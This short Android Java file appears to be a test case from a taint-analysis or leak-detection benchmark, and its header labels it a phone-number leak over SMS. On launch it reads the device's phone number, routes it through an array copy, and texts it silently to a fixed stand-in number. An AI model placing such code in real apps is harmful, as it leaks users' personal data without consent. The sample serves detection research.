// about       arraycopy takes the part with the value over.
// leak        PHONE_NUMBER sms
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
    String[] row = {"order", "two", phone.getLine1Number(), "end"};
    String[] part = new String[2];
    // "two" and the number.
    System.arraycopy(row, 1, part, 0, 2);
    String text = part[0] + "/" + part[1];
    SmsManager.getDefault().sendTextMessage("+15550100", null, text, null, null);
  }
}
